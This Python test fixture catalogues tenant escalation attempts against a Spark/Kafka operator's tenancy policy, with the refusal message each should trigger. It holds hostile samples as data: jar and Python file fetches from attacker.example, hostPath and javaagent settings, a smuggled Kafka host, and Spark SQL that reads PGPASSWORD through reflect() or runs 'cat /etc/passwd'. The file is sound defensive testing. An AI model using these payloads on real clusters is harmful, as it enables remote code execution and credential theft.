"""What a tenant tries against the tenancy policy, and where each attempt is refused.

One catalogue for the admission test (the chart's ValidatingAdmissionPolicy in
the real API server), the operator test (Stalled before any job) and the table
in docs/security.md.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

G, V, P = "derivedviews.io", "v1alpha1", "derivedviews"

BASE: dict[str, Any] = {
    "apiVersion": f"{G}/{V}", "kind": "DerivedView", "metadata": {"name": "orders"},
    "spec": {
        "source": {"kafka": {"bootstrapServers": "127.0.0.1:9092"}, "topics": ["orders"],
                   "format": "json", "schema": "order_id STRING, amount DOUBLE"},
        "transform": {"sql": "SELECT order_id, amount FROM events"},
        "sink": {"postgres": {"secretRef": {"name": "db"}, "table": "orders"},
                 "primaryKey": ["order_id"]},
        "spark": {"sparkConf": {"spark.sql.shuffle.partitions": "8"}},
    },
}


@dataclass(frozen=True)
class Attempt:
    what: str
    spark: dict[str, Any] | None = None
    """Merged into spec.spark."""
    transform: dict[str, Any] | None = None
    """Replaces spec.transform."""
    source: dict[str, Any] | None = None
    """Merged into spec.source (one level deep)."""
    expected: str = ""
    """A part of the refusal (the API server's or the operator's message)."""

    def body(self, name: str) -> dict[str, Any]:
        body = copy.deepcopy(BASE)
        body["metadata"]["name"] = name
        if self.spark is not None:
            body["spec"]["spark"] = {**body["spec"]["spark"], **self.spark}
        if self.transform is not None:
            body["spec"]["transform"] = self.transform
        if self.source is not None:
            body["spec"]["source"] = {**body["spec"]["source"], **copy.deepcopy(self.source)}
        return body


def _conf(key: str, value: str) -> dict[str, Any]:
    return {"sparkConf": {key: value}}


PY = {"python": {"function": "evil:run", "pyFiles": ["https://attacker.example/evil.py"]}}

ADMISSION: list[Attempt] = [
    Attempt("an image of the author's", {"image": "attacker/spark:latest"},
            expected="spec.spark.image attacker/spark:latest: refused by the tenancy policy "
                     "(chart value tenancy.images)"),
    Attempt("an entry point of the author's",
            {"mainApplicationFile": "s3a://attacker/job.py"},
            expected="spec.spark.mainApplicationFile s3a://attacker/job.py: refused"),
    Attempt("a driver ServiceAccount of the author's", {"serviceAccount": "namespace-admin"},
            expected="spec.spark.serviceAccount: refused by the tenancy policy (chart value "
                     "tenancy.serviceAccountOverride)"),
    Attempt("a hostPath volume through sparkConf",
            _conf("spark.kubernetes.driver.volumes.hostPath.root.mount.path", "/host"),
            expected="spec.spark.sparkConf key spark.kubernetes.driver.volumes.hostPath.root."
                     "mount.path: refused"),
    Attempt("a pod template through sparkConf",
            _conf("spark.kubernetes.driver.podTemplateFile", "s3a://attacker/pod.yaml"),
            expected="spark.kubernetes.driver.podTemplateFile: refused"),
    Attempt("a Java agent through sparkConf",
            _conf("spark.driver.extraJavaOptions", "-javaagent:/tmp/a.jar"),
            expected="spark.driver.extraJavaOptions: refused"),
    Attempt("jars from anywhere through sparkConf",
            _conf("spark.jars", "https://attacker.example/a.jar"),
            expected="spark.jars: refused"),
    Attempt("a SQL extension class through sparkConf",
            _conf("spark.sql.extensions", "evil.Extension"),
            expected="spark.sql.extensions: refused"),
    Attempt("a query listener class in an allowed prefix",
            _conf("spark.sql.streaming.streamingQueryListeners", "evil.Listener"),
            expected="spark.sql.streaming.streamingQueryListeners: refused"),
    Attempt("Hadoop credentials providers through sparkConf",
            _conf("spark.hadoop.fs.s3a.aws.credentials.provider", "evil.Provider"),
            expected="spark.hadoop.fs.s3a.aws.credentials.provider: refused"),
    Attempt("a servlet filter class for the Spark UI",
            _conf("spark.ui.filters", "evil.Filter"), expected="spark.ui.filters: refused"),
    Attempt("event logs (with the job's settings) written where the author says",
            _conf("spark.eventLog.dir", "s3a://attacker/logs"),
            expected="spark.eventLog.dir: refused"),
    Attempt("a Python transform", transform=PY,
            expected="transform.python: refused by the tenancy policy (chart value "
                     "tenancy.python.enabled)"),
    Attempt("a Kafka cluster of the author's (the Kafka Secret's credentials go there)",
            source={"kafka": {"bootstrapServers": "kafka.attacker.example:9092"}},
            expected="spec.source.kafka.bootstrapServers kafka.attacker.example:9092 is not a "
                     "Kafka cluster the platform lists"),
    Attempt("a listed cluster beside one of the author's",
            source={"kafka": {"bootstrapServers": "127.0.0.1:9092,kafka.attacker.example:9092"}},
            expected="(chart value tenancy.kafka.clusters)"),
    Attempt("a loopback prefix hiding the author's host (`127.0.0.1:1@host:9092`)",
            source={"kafka": {"bootstrapServers": "127.0.0.1:1@kafka.attacker.example:9092"}},
            expected="is not a Kafka cluster the platform lists"),
    Attempt("a dead-letter topic outside the platform's patterns (another team's topic)",
            source={"badRecords": {"policy": "deadLetter", "deadLetterTopic": "payments"}},
            expected="spec.source.badRecords.deadLetterTopic payments: refused by the tenancy "
                     "policy (chart value tenancy.kafka.deadLetterTopics)"),
    Attempt("a checkpoint base of the author's (the checkpoint store's keys go there)",
            {"checkpointBase": "s3a://attacker-bucket/ck"},
            expected="spec.spark.checkpointBase s3a://attacker-bucket/ck: refused by the "
                     "tenancy policy (chart value tenancy.checkpoints.authorOverride)"),
    Attempt("`${env:X}` substitution in SQL turned back on through sparkConf",
            _conf("spark.sql.variable.substitute", "true"),
            expected="spec.spark.sparkConf key spark.sql.variable.substitute: refused"),
]
"""Refused by the ValidatingAdmissionPolicy at apply time (and by the operator again)."""

ALLOWED: list[Attempt] = [
    Attempt("tuning settings", _conf("spark.sql.adaptive.enabled", "true")),
    Attempt("the platform's own image, named", {"image": "derived-views/spark-job:0.1.0"}),
    Attempt("dead letters to a dlq.* topic",
            source={"badRecords": {"policy": "deadLetter", "deadLetterTopic": "dlq.orders"}}),
]

MISSING_SECRET = Attempt("a Secret that does not exist (yet)",
                         expected="not found: a view's jobs use only Secrets that exist")
"""Refused by the operator (Stalled SecretMissing) before any job: the API server cannot see
Secrets; a job created now would use whatever Secret of that name appeared later."""

SQL: list[tuple[str, str, str]] = [
    ("read the sink password from the environment",
     "SELECT order_id, reflect('java.lang.System', 'getenv', 'PGPASSWORD') AS amount FROM events",
     "reflect() reaches the JVM"),
    ("call a Java method", "SELECT order_id, java_method('java.lang.Runtime', 'getRuntime') "
     "AS amount FROM events", "java_method() reaches the JVM"),
    ("run a shell command", "SELECT TRANSFORM(order_id, amount) USING 'cat /etc/passwd' "
     "AS (order_id, amount) FROM events", "TRANSFORM ... USING runs a command"),
    ("load a jar", "ADD JAR https://attacker.example/a.jar", "ADD JAR"),
    ("write files", "INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM events",
     "INSERT OVERWRITE is a command"),
    ("read a file", "SELECT * FROM csv.`file:///etc/passwd`", "reads a file or a catalog table"),
    ("hide reflect in a lambda", "SELECT order_id, aggregate(array(1), 0D, (acc, x) -> "
     "acc + length(reflect('java.lang.System', 'getenv', 'PGPASSWORD'))) AS amount FROM events",
     "reflect() reaches the JVM"),
]
"""Refused by the operator before any job starts (Stalled PolicyViolation), and by the job."""


def matches(message: str, attempt: Attempt) -> bool:
    return attempt.expected in " ".join(message.split())

